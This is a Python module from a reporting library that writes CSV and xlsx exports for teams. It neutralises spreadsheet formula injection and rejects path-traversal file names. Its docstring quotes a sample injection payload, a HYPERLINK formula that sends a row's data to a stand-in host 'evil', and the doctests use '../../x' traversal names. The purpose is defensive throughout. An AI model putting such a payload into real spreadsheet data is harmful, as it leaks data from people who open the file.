"""Tables for Excel users, written safely: one helper every export uses (action lists, churn lists, SLA
breaches, order lists ...).

Two dangers come with data that someone else typed (a SKU, a product name, a category):

* **Formula injection** (OWASP "CSV injection"). Excel and LibreOffice run a cell that starts with ``=``,
  ``+``, ``-`` or ``@`` as a formula (and tab or carriage return are read past), so a SKU
  ``=HYPERLINK("http://evil/?"&B2,"详情")`` becomes a live link that sends the row away. In CSV such a
  text cell gets a leading ``'`` (OWASP's advice), which Excel shows as text; the full-width forms
  ``＝ ＋ － ＠`` that Excel in CJK locales also reads as formulas are treated the same. In xlsx every text
  cell is stored as a string (never a formula), so it keeps its exact value, and a trigger cell also
  gets Excel's "quote prefix" style so it stays text when someone edits it. Numbers are never touched:
  ``-5`` in a number column is a number, and a text cell that is just a plain number (``"-5"``,
  ``"+86"``) runs nothing either.
* **File names from data**. A category ``../../x`` must not leave the export folder, a 300-character
  name must not exceed the file system's 255-byte limit, and ``服饰/鞋包`` must not create a folder.
  :func:`safe_filename` makes one file-name component out of any text; :func:`write_table` joins it
  to the folder and checks the result stays inside.

The files are for the teams that act on them, so the xlsx is ready to work in (:func:`write_xlsx`): headers in
Chinese and English (``headers``), Excel number formats per column (``kinds``: money in the shop's currency,
percent, whole units, decimals, dates), a frozen, bold header row with a filter, column widths that fit, and
drop-down lists for columns a team fills in (``choices``, e.g. a status). An infinite value (days of supply
with no demand) is an empty cell, never the text ``inf``. When a report runs under the runner, ``export_dir`` is
the report's own folder (``reports/<period>/<name>.exports/``) and :func:`exported` shows links to the files.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import math
import re
import unicodedata
from collections.abc import Iterable, Mapping, Sequence
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

from opslib.errors import ReportError

#: First characters that make a spreadsheet read a text cell as a formula (ASCII and full-width forms).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
#: A text cell that is only a plain decimal number: no formula can hide in it.
_PLAIN_NUMBER = re.compile(r"^[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?$")
#: Characters that are not allowed (or not wise) in a file name on Linux, macOS or Windows.
_UNSAFE = re.compile(r'[\x00-\x1f\x7f/\\:*?"<>|]+')
_WINDOWS_RESERVED = {"con", "prn", "aux", "nul", *(f"com{i}" for i in range(1, 10)),
                     *(f"lpt{i}" for i in range(1, 10))}
#: Characters an xlsx file cannot hold at all (openpyxl refuses them); replaced by U+FFFD.
_XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
FORMATS = ("csv", "xlsx")
#: Column kinds of an export and their Excel number formats (``money`` takes the currency symbol).
KINDS = {"money": '"{symbol}"#,##0.00;-"{symbol}"#,##0.00', "percent": "0.0%", "units": "#,##0",
         "decimal": "#,##0.00", "date": "yyyy-mm-dd", "datetime": "yyyy-mm-dd hh:mm", "text": "@"}


def safe_filename(text: Any, max_bytes: int = 120, fallback: str = "unnamed") -> str:
    """One file-name component made from any text: no folder separators, no control characters, no
    leading dots, at most ``max_bytes`` bytes of UTF-8.

    Formula: unsafe characters (``/ \\ : * ? " < > |``, control characters) become ``_``, runs of
    whitespace one space; leading dots and spaces are dropped (no hidden files, no ``..``); Windows'
    reserved names (``CON``, ``NUL`` ...) get a ``_`` prefix. A name longer than ``max_bytes`` is cut
    at a character boundary and ends in ``~`` + the first 8 hex digits of the SHA-1 of the full text,
    so two long names that share a beginning stay two files. Chinese and other letters are kept.

    Parameters:
        text: the wanted name (a category, a SKU, a report name ...); ``str()`` of anything else.
        max_bytes: the longest result in UTF-8 bytes (ext4 and APFS allow 255 per component; the default
            leaves room for a prefix, a date and a suffix).
        fallback: the name when nothing usable is left.

    Returns:
        The file-name component (never empty, never ``.`` or ``..``).

    Example:
        >>> safe_filename("../../x"), safe_filename("服饰/鞋包"), safe_filename("美妆 #1")
        ('x', '服饰_鞋包', '美妆 #1')
        >>> long = safe_filename("类" * 300)
        >>> len(long.encode()), long[-9:] == "~" + long[-8:]
        (120, True)
    """
    raw = unicodedata.normalize("NFC", str(text))
    name = _UNSAFE.sub("_", raw)
    name = re.sub(r"\s+", " ", name).strip()
    name = re.sub(r"^[._ ]*(?=[^._ ])", "", name) if re.search(r"[^._ ]", name) else ""
    name = name.rstrip(". ")  # Windows drops trailing dots and spaces
    if not name:
        name = fallback
    if name.split(".")[0].lower() in _WINDOWS_RESERVED:
        name = "_" + name
    if len(name.encode("utf-8")) > max_bytes:
        tag = "~" + hashlib.sha1(raw.encode("utf-8")).hexdigest()[:8]
        budget = max_bytes - len(tag)
        cut = name.encode("utf-8")[:budget].decode("utf-8", errors="ignore").rstrip(". ")
        name = cut + tag
    return name


def inside(folder: str | Path, name: str) -> Path:
    """``folder / name`` (resolved), or ReportError when it would lie outside ``folder``.

    Example:
        >>> inside("/tmp/out", "a.csv").as_posix()
        '/tmp/out/a.csv'
    """
    base = Path(folder).expanduser().resolve()
    target = (base / name).resolve()
    if target.parent != base and base not in target.parents:
        raise ReportError(f"export file name {name!r} would be written outside the export folder {base}")
    return target


def neutralise(value: Any) -> Any:
    """A text cell made safe for CSV: ``'`` in front when it starts with a formula trigger; anything else as
    it is.

    Formula: ``value`` is a ``str`` whose first character is in :data:`FORMULA_TRIGGERS` and that is not a
    plain number (``-12.5``) -> ``"'" + value``; otherwise ``value`` unchanged (numbers, dates, None).

    Example:
        >>> neutralise("=1+1"), neutralise("@SUM(A1)"), neutralise("-5"), neutralise(-5), neutralise("美妆")
        ("'=1+1", "'@SUM(A1)", '-5', -5, '美妆')
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.match(value):
        return "'" + value
    return value


def is_formula_like(value: Any) -> bool:
    """True for a text cell a spreadsheet would read as a formula (see :func:`neutralise`).

    Example:
        >>> is_formula_like('=HYPERLINK("http://x")'), is_formula_like("+86 10"), is_formula_like("-3")
        (True, True, False)
    """
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.match(value)


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells (and column names) are :func:`neutralise` d; number, date and
    boolean columns are left alone.

    Example:
        >>> f = pd.DataFrame({"sku": ["=1+1", "a"], "gmv": [-5.0, 2.0]})
        >>> neutralise_frame(f).to_dict("list")
        {'sku': ["'=1+1", 'a'], 'gmv': [-5.0, 2.0]}
    """
    out = frame.copy()
    for col in out.columns:
        s = out[col]
        if s.dtype == object or isinstance(s.dtype, (pd.StringDtype, pd.CategoricalDtype)):
            out[col] = s.astype(object).map(neutralise)
    out.columns = [neutralise(str(c)) if isinstance(c, str) else c for c in out.columns]
    return out


def _xlsx_value(value: Any) -> Any:
    """A cell value openpyxl can store: NaN/NaT/NA -> empty, tz-aware times -> naive, odd objects -> text."""
    if value is None:
        return None
    if isinstance(value, float) and (math.isnan(value) or math.isinf(value)):
        return None
    try:
        if pd.isna(value) is True:
            return None
    except (TypeError, ValueError):
        pass
    if isinstance(value, pd.Timestamp):
        return value.tz_localize(None).to_pydatetime() if value.tzinfo else value.to_pydatetime()
    if isinstance(value, dt.datetime) and value.tzinfo is not None:
        return value.replace(tzinfo=None)
    if isinstance(value, str | bool | int | float | dt.date | dt.datetime | dt.time):
        return value
    if hasattr(value, "item"):  # numpy scalars
        return _xlsx_value(value.item())
    return str(value)


def _kind_of(series: pd.Series) -> str:
    """The export kind of a column without one given: whole numbers, decimals, dates or text."""
    if pd.api.types.is_bool_dtype(series.dtype):
        return "text"
    if pd.api.types.is_integer_dtype(series.dtype):
        return "units"
    if pd.api.types.is_float_dtype(series.dtype):
        v = series.to_numpy(dtype=float)
        finite = v[np.isfinite(v)]
        return "units" if len(finite) and np.all(finite == np.round(finite)) else "decimal"
    if pd.api.types.is_datetime64_any_dtype(series.dtype):
        clean = series.dropna()
        return "date" if len(clean) == 0 or bool((clean == clean.dt.normalize()).all()) else "datetime"
    return "text"


def _width(values: Iterable[Any]) -> float:
    """A column width in Excel units that fits the longest cell (CJK characters count twice), 8 .. 48."""
    longest = 0
    for v in values:
        text = "" if v is None else str(v)
        longest = max(longest, sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in text))
    return float(min(48, max(8, longest + 2)))


def _column_letter(i: int) -> str:
    from openpyxl.utils import get_column_letter

    return get_column_letter(i)


def _currency_symbol(currency: str | None) -> str:
    if currency is not None:
        from opslib.data.settings import CURRENCIES

        code = str(currency).upper()
        if code in CURRENCIES:
            return CURRENCIES[code].symbol.strip()
        return str(currency)
    from opslib.plotting.format import current_currency  # the shop's currency, set by set_theme(shop=...)

    return current_currency().symbol.strip()


def write_xlsx(frame: pd.DataFrame, path: str | Path, sheet: str = "data", headers: Mapping[str, str] | None = None,
               kinds: Mapping[str, str] | None = None, choices: Mapping[str, Sequence[str]] | None = None,
               currency: str | None = None) -> Path:
    """``frame`` as an xlsx workbook ready for a team: one sheet, a frozen bold header row with a filter, number
    formats, fitted column widths; every text cell a string, never a formula.

    Every ``str`` cell is stored with type string, so ``=1+1`` shows as the text ``=1+1`` and is never
    computed; cells that start with a formula trigger also get Excel's quote-prefix style. Characters an
    xlsx cannot hold (control characters other than tab, CR, LF) become U+FFFD; XML reads a carriage
    return back as a line feed. NaN and ±inf are empty cells.

    Parameters:
        frame: the table (its index is not written). path: the file. sheet: the sheet name.
        headers: header text per column (e.g. ``{"sku": "商品编码 SKU"}``); other columns keep their name.
        kinds: per column one of :data:`KINDS` (money in ``currency``, default the shop's); columns without one get
            ``units`` (whole numbers), ``decimal``, ``date`` or text from their dtype.
        choices: per column the values of a drop-down list (e.g. a status the team fills in).
        currency: a currency code for money columns (default: the shop's, ``opslib.plotting.set_theme``).

    Returns:
        The path written.

    Example:
        >>> import os, tempfile
        >>> from openpyxl import load_workbook
        >>> p = write_xlsx(pd.DataFrame({"sku": ["=1+1"], "n": [-5], "gmv": [12.5]}),
        ...                os.path.join(tempfile.mkdtemp(), "t.xlsx"), kinds={"gmv": "money"}, currency="CNY")
        >>> ws = load_workbook(p).active
        >>> [(c.value, c.data_type) for c in ws[2]], ws["C2"].number_format, ws.freeze_panes, ws.auto_filter.ref
        ([('=1+1', 's'), (-5, 'n'), (12.5, 'n')], '"¥"#,##0.00;-"¥"#,##0.00', 'A2', 'A1:C2')
    """
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Alignment, Font, PatternFill
    from openpyxl.worksheet.datavalidation import DataValidation

    path = Path(path)
    headers, kinds, choices = dict(headers or {}), dict(kinds or {}), dict(choices or {})
    bad = sorted(k for k, v in kinds.items() if v not in KINDS)
    if bad:
        raise ReportError(f"export column kind(s) {', '.join(f'{k}={kinds[k]!r}' for k in bad)}: expected one of "
                          f"{', '.join(KINDS)}")
    symbol = _currency_symbol(currency) if "money" in kinds.values() else ""
    wb = Workbook(write_only=True)
    ws = wb.create_sheet(safe_filename(sheet, max_bytes=31).replace("[", "(").replace("]", ")")[:31])
    columns = list(frame.columns)
    kind = {c: kinds.get(c) or _kind_of(frame[c]) for c in columns}
    number_format = {c: KINDS[k].format(symbol=symbol) for c, k in kind.items() if k != "text"}
    titles = [str(headers.get(c, c)) for c in columns]
    for i, c in enumerate(columns, start=1):
        shown = frame[c].head(200)
        if kind[c] == "money":
            sample = [f"{symbol}{v:,.2f}" if isinstance(v, int | float) else v for v in shown]
        else:
            sample = list(shown)
        ws.column_dimensions[_column_letter(i)].width = _width([titles[i - 1], *sample])
    n = len(frame)
    last = _column_letter(max(1, len(columns)))
    ws.freeze_panes = "A2"
    for c, values in choices.items():
        if c in columns and n:
            letter = _column_letter(columns.index(c) + 1)
            listed = ",".join(str(v).replace(",", " ") for v in values)
            dv = DataValidation(type="list", formula1=f'"{listed}"', allow_blank=True)
            dv.add(f"{letter}2:{letter}{n + 1}")
            ws.data_validations.append(dv)

    def cell(value: Any, column: str | None = None) -> Any:
        value = _xlsx_value(value)
        if not isinstance(value, str):
            c = WriteOnlyCell(ws, value=value)
            if column in number_format and value is not None:
                c.number_format = number_format[column]
            return c
        text = _XLSX_ILLEGAL.sub("\ufffd", value)
        c = WriteOnlyCell(ws, value=text)
        c.data_type = "s"  # openpyxl would otherwise store "=..." as a formula
        if is_formula_like(text):
            c.quotePrefix = True
        return c

    def column_cells(column: str) -> list[Any]:
        """The cells of one column, as cheap as openpyxl allows: a plain value where it needs nothing (empty,
        text that is no formula, a number without a format), a styled cell sharing the column's one number
        format otherwise; the same file as :func:`cell` on every value (890k cells: 16.5 -> 14.2 CPU-s)."""
        fmt = number_format.get(column)
        style = None
        if fmt is not None:
            probe = WriteOnlyCell(ws, value=0)
            probe.number_format = fmt
            style = probe._style  # read only by the writer, so every cell of the column can share it
        out: list[Any] = []
        for raw in frame[column].tolist():
            value = _xlsx_value(raw)
            if value is None:
                out.append(None)
            elif isinstance(value, str):
                if _XLSX_ILLEGAL.search(value) or value.startswith(FORMULA_TRIGGERS):
                    out.append(cell(value))
                else:
                    out.append(value)  # openpyxl stores a str that does not start with "=" as a string
            elif style is None:
                out.append(value)
            else:
                c = WriteOnlyCell(ws, value=value)
                c._style = style
                out.append(c)
        return out

    bold, fill = Font(bold=True), PatternFill("solid", fgColor="EEF1F5")
    head = []
    for t in titles:
        h = cell(t)
        h.font, h.fill, h.alignment = bold, fill, Alignment(vertical="top", wrap_text=True)
        head.append(h)
    ws.append(head)
    for row in zip(*(column_cells(c) for c in columns), strict=True) if columns else ():
        ws.append(list(row))
    ws.auto_filter.ref = f"A1:{last}{n + 1}"
    wb.save(path)
    return path


def write_csv(frame: pd.DataFrame, path: str | Path, headers: Mapping[str, str] | None = None) -> Path:
    """``frame`` as CSV for Excel: UTF-8 with BOM (so Excel shows Chinese), no index, text cells neutralised,
    ±inf as empty cells; ``headers`` renames columns (e.g. ``{"sku": "商品编码 SKU"}``).

    Example:
        >>> import os, tempfile
        >>> p = write_csv(pd.DataFrame({"sku": ["=1+1"]}), os.path.join(tempfile.mkdtemp(), "t.csv"))
        >>> p.read_text(encoding="utf-8-sig").splitlines()
        ['sku', "'=1+1"]
    """
    path = Path(path)
    # CRLF rows, as Excel writes them; it also makes the csv module quote a cell holding a bare CR, which
    # would otherwise split the row for every reader.
    out = frame.rename(columns=dict(headers)) if headers else frame
    numeric = out.select_dtypes(include="number").columns
    if len(numeric):
        out = out.copy()
        out[numeric] = out[numeric].replace([np.inf, -np.inf], np.nan)
    neutralise_frame(out).to_csv(path, index=False, encoding="utf-8-sig", lineterminator="\r\n")
    return path


def export_folder(folder: str | Path, formats: Iterable[str]) -> tuple[Path, list[str]]:
    """Check an export request and make its folder: the folder (created) and the formats, lower case.

    Parameters:
        folder: the export folder (``~`` expanded). formats: any of :data:`FORMATS`, with or without a dot.

    Returns:
        ``(folder, formats)``; a :class:`ReportError` for an unknown or empty format list, or a folder that is a file.

    Example:
        >>> import tempfile
        >>> export_folder(tempfile.mkdtemp(), [".CSV"])[1]
        ['csv']
    """
    formats = [f.lower().lstrip(".") for f in formats]
    bad = [f for f in formats if f not in FORMATS]
    if bad or not formats:
        raise ReportError(f"export formats must be among {', '.join(FORMATS)}, got {', '.join(bad) or 'none'}")
    base = Path(folder).expanduser()
    if base.exists() and not base.is_dir():
        raise ReportError(f"export folder {base} is a file, not a folder")
    base.mkdir(parents=True, exist_ok=True)
    return base, formats


def write_table(frame: pd.DataFrame, folder: str | Path, name: str, formats: Iterable[str] = FORMATS,
                sheet: str = "data", headers: Mapping[str, str] | None = None, kinds: Mapping[str, str] | None = None,
                choices: Mapping[str, Sequence[str]] | None = None, currency: str | None = None) -> list[Path]:
    """Write ``frame`` into ``folder`` as ``<name>.csv`` and/or ``<name>.xlsx``, safely (module doc).

    ``name`` may come from data: it goes through :func:`safe_filename` and the file must land inside
    ``folder`` (created when missing; a relative folder is taken from the current working directory).

    Parameters:
        frame: the table (its index is not written).
        folder: the export folder.
        name: the file name without suffix, e.g. ``f"category_actions_{category}_{day}"``.
        formats: any of ``"csv"``, ``"xlsx"``.
        sheet: the xlsx sheet name.
        headers, kinds, choices, currency: header texts, number formats, drop-down lists and the money currency
            (:func:`write_xlsx`; the CSV gets the same headers).

    Returns:
        The paths written, in the order of ``formats``.

    Example:
        >>> import os, tempfile
        >>> d = tempfile.mkdtemp()
        >>> [p.name for p in write_table(pd.DataFrame({"a": [1]}), d, "actions_../../x")]
        ['actions_.._.._x.csv', 'actions_.._.._x.xlsx']
    """
    base, formats = export_folder(folder, formats)
    stem = safe_filename(name)
    written = []
    for fmt in formats:
        target = inside(base, f"{stem}.{fmt}")
        if fmt == "csv":
            written.append(write_csv(frame, target, headers=headers))
        else:
            written.append(write_xlsx(frame, target, sheet=sheet, headers=headers, kinds=kinds, choices=choices,
                                      currency=currency))
    return written


class ExportedFiles(list):
    """The files an export wrote, shown as links (HTML) or their names (text) where a notebook cell ends.

    The links are relative to the notebook's folder (where JupyterLab opens it); in a report the runner points
    them at the report's own export folder (``data-ops-path`` holds the file's path until then). Files in
    sub-folders (one hand-off pack per team) show their path below the common folder.

    Example:
        >>> ExportedFiles([Path("/tmp/x/actions.xlsx"), Path("/tmp/x/actions.csv")])
        written: actions.xlsx, actions.csv (in /tmp/x)
    """

    def _names(self) -> tuple[str, list[str]]:
        import os

        paths = [Path(p).resolve() for p in self]
        base = Path(os.path.commonpath([str(p.parent) for p in paths])) if paths else Path()
        return str(base), [p.relative_to(base).as_posix() for p in paths]

    def __repr__(self) -> str:
        if not self:
            return "(nothing written)"
        base, names = self._names()
        return f"written: {', '.join(names)} (in {base})"

    def _repr_html_(self) -> str:
        import html
        import os

        if not self:
            return "<p><i>(nothing written)</i></p>"
        _, names = self._names()
        links = []
        for p, name in zip(self, names, strict=True):
            p = Path(p).resolve()
            try:
                href = Path(os.path.relpath(p, Path.cwd())).as_posix()
            except ValueError:  # another drive (Windows)
                href = p.as_uri()
            links.append(f'<a class="ops-export" data-ops-path="{html.escape(str(p))}" href="{html.escape(href)}" '
                         f'download>{html.escape(name)}</a>')
        return f'<p class="ops-exports">⬇ 下载 Download: {" · ".join(links)}</p>'


def exported(paths: Iterable[str | Path]) -> ExportedFiles:
    """The written files as a display object: links in HTML and in the report, names in text (:class:`ExportedFiles`).

    Parameters:
        paths: what an export returned (e.g. :func:`write_table`).

    Returns:
        An :class:`ExportedFiles` (a list of the paths).

    Example:
        >>> exported([Path("/tmp/a.csv")])
        written: a.csv (in /tmp)
    """
    return ExportedFiles(Path(p) for p in paths)


def safe_export_path(path: str | Path) -> Path:
    """A complete export path (folder + file name) checked the old way callers build it, e.g.
    ``f"{export_dir}/category_actions_{category}_{day}.csv"``: the file name is made safe, and a path that
    goes down into a folder and back up (``x/../..``, what a name like ``../../x`` taken from data gives)
    is refused. Prefer :func:`write_table` with the folder and the name apart.

    Example:
        >>> safe_export_path("/tmp/out/actions_" + "类" * 300 + ".csv").name.endswith(".csv")
        True
        >>> safe_export_path("/tmp/out/actions_../../x.csv")
        Traceback (most recent call last):
        ...
        opslib.errors.ReportError: export path '/tmp/out/actions_../../x.csv' goes back up out of 'actions_..': a name taken from data (a category?) contains '/' or '..'; pass the folder and the name apart (write_table)
    """
    p = Path(path).expanduser()
    parts = p.parts
    for i, part in enumerate(parts):
        if part == ".." and i > 0 and parts[i - 1] not in ("..", p.anchor):
            raise ReportError(
                f"export path {str(path)!r} goes back up out of {parts[i - 1]!r}: a name taken from data "
                "(a category?) contains '/' or '..'; pass the folder and the name apart (write_table)")
    suffix = p.suffix if re.fullmatch(r"\.[A-Za-z0-9]{1,5}", p.suffix or "") else ""
    stem = p.name[: len(p.name) - len(suffix)] if suffix else p.name
    return p.parent / (safe_filename(stem) + suffix)
